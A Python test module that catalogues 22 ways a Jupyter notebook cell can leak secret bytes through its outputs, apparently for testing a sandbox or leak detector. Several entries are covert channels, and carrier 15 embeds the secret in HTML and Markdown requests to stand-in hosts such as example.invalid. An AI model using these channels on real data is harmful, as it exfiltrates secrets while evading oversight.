"""Carriers 1 to 22 of the catalogue of leaks: what a cell says and shows.

``$E`` stands for a text that tells of rows, ``$A`` to ``$D`` for four of the secret's bits, ``$K`` for a name of the cell's own.
"""

from .steps import Ask

PNG = "from PIL import Image as P, PngImagePlugin\np, info = P.new('RGB', (16, 16), 'white'), PngImagePlugin.PngInfo()\n"
SHOW_PNG = "out = io.BytesIO(); p.save(out, 'PNG', pnginfo=info); display(Image(data=out.getvalue() + tail))"

SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
    1: ("print($E)", "person.head(20)", "person.to_csv(sys.stdout)"),
    2: ("print($E)", "$E", "publish_display_data({'text/plain': $E})"),
    3: (
        "print('n = %d, mean %.1f' % (4000 + int(secret[0]), 60 + secret[1] / 10))",
        "pd.Series({'n': int(secret[2]), 'mean': secret[3] / 7})",
    ),
    4: (
        "class R_$K:\n    def __repr__(self):\n        return $E\nR_$K()",
        "class R_$K:\n    def _repr_html_(self):\n        return '<b>' + $E + '</b>'\nR_$K()",
        "class R_$K:\n    def _repr_mimebundle_(self, **more):\n        return {'text/plain': $E, 'text/x-' + secret.hex(): 1}\nR_$K()",
        "person.head(3).style.set_uuid('u').set_caption($E)",
    ),
    5: ("raise KeyError($E)", "assert not $A, $E", "int($E)", "person[secret.hex()]", "1/0 if $A else [][1]"),
    6: (
        "raise type('E' + secret.hex(), (Exception,), {})('x')",
        "exec(f'def f_{secret.hex()}():\\n    return 1/0\\nf_{secret.hex()}()')",
        "exec(compile('1/0', '/project/' + secret.hex() + '.py', 'exec'))",
        "if $A:\n    1/0\nelif $B:\n    [][1]\nelse:\n    {}['x']",
    ),
    7: (
        "print($E, file=sys.stderr)",
        "warnings.warn($E)",
        "logging.getLogger('$K').error('%s', $E)",
        "os.write(1, secret.hex().encode()); os.write(2, secret.hex().encode()); time.sleep(0.4)",
        "done = subprocess.run(['echo', secret.hex()]); time.sleep(0.4)",
        "import faulthandler; faulthandler.dump_traceback(file=open('/project/trace-$K', 'w')); print($A)",
    ),
    8: ("plt.plot([1, 2]); plt.title(secret.hex()); plt.show()", "plt.bar([secret.hex()[:8], 'b'], [1, int(secret[0])]); plt.show()"),
    9: (
        "plt.scatter(person['year_of_birth'], range(len(person))); plt.show()",
        "plt.figure(dpi=200); plt.eventplot(person['year_of_birth'].head(40)); plt.show()",
    ),
    10: (
        PNG + "tail = b''\nfor i, b in enumerate(bits): p.putpixel((i % 16, i // 16), (254 + b, 255, 255))\n" + SHOW_PNG,
        PNG + "tail = b''; info.add_text('k', $E)\n" + SHOW_PNG,
        PNG + "tail = secret\n" + SHOW_PNG,
        "plt.imshow(np.array(bits).reshape(16, 16)); plt.show()",
    ),
    11: ("display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><text fill=\"none\">' + secret.hex() + '</text></svg>'))",),
    12: (
        "HTML('<!-- ' + $E + ' --><div hidden data-k=\"' + secret.hex() + '\">x</div>')",
        "HTML('<table>' + '<tr><td>x' * int(secret[0]) + '</table>')",
    ),
    13: (
        "Javascript('var k = \"' + secret.hex() + '\"')",
        "publish_display_data({'application/vnd.vega.v5+json': {'data': [{'values': bits}]}, 'text/plain': ''})",
        "publish_display_data({'application/vnd.plotly.v1+json': {'data': [{'y': bits}]}})",
        "JSON({'k': secret.hex()})",
        "GeoJSON({'type': 'Point', 'coordinates': [int(secret[0]), 1]})",
        "Math('x_{' + secret.hex() + '}')",
    ),
    14: (
        "publish_display_data({'application/pdf': base64.b64encode(b'%PDF' + secret).decode()})",
        "publish_display_data({'video/mp4': base64.b64encode(secret).decode(), 'text/plain': ''})",
        "Audio(np.array(bits, dtype=float), rate=8000)",
    ),
    15: (
        "HTML('<img src=\"https://example.invalid/?q=' + secret.hex() + '\">"
        "<style>a{background:url(//x.invalid/' + secret.hex() + ')}</style>')",
        "Markdown('[a](https://example.invalid/' + secret.hex() + ') ![](//x.invalid/' + secret.hex() + ')')",
        'HTML(\'<link rel="dns-prefetch" href="//\' + secret.hex()[:40] + \'.invalid"><form action="//x.invalid"></form>\')',
    ),
    16: ("publish_display_data({'text/plain': 'x', 'text/html': 'x', 'text/latex': $E, 'image/png': base64.b64encode(secret).decode()})",),
    17: (
        "publish_display_data({'x/' + secret.hex(): 1, 'text/plain': 'x'})",
        "publish_display_data({f'x/{i}': 1 for i, b in enumerate(bits) if b})",
    ),
    18: ("publish_display_data({'text/plain': 'x'}, metadata={'k': $E})", "display('x', metadata={secret.hex(): {'isolated': bool($A)}})"),
    19: (
        "display('x', display_id=secret.hex())",
        "h = display('x', display_id=True)\nfor b in bits[:16]: h.update(str(b))",
        "hs = [display('x', display_id=str(i)) for i in range(8)]\nfor i in sorted(range(8), key=lambda i: secret[i]): hs[i].update(i)",
        "for i in range(secret[0] % 16): display('x', display_id='$K'); update_display('y', display_id='$K')",
    ),
    20: (
        "for b in bits[:8]:\n    print(b)\n    clear_output(wait=bool(b))",
        "for i in range(secret[0] % 32): print('\\r' + '#' * i, end='')",
        "print($E); clear_output()",
    ),
    21: (
        ("w.HTML(value=$E)", Ask("shell", "comm_info_request")),
        "t_$K = w.IntText(); display(t_$K); t_$K.value = int.from_bytes(secret[:3], 'big')",
        "s_$K = [w.Text(str(b)) for b in bits[:4]]; [each.close() for each, b in zip(s_$K, bits) if b]; None",
        "from comm import create_comm; c_$K = create_comm(target_name='t' + secret.hex(), data={'k': $E}, buffers=[secret]); c_$K.send($E)",
    ),
    22: (
        (
            "v_$K = w.Text(description='state'); v_$K.value = secret.hex(); display(v_$K)",
            Ask("shell", "comm_info_request", {"target_name": "jupyter.widget"}),
        ),
    ),
}
"""By number, the ways in which each kind is tried; a way is one cell, or cells and requests in order."""
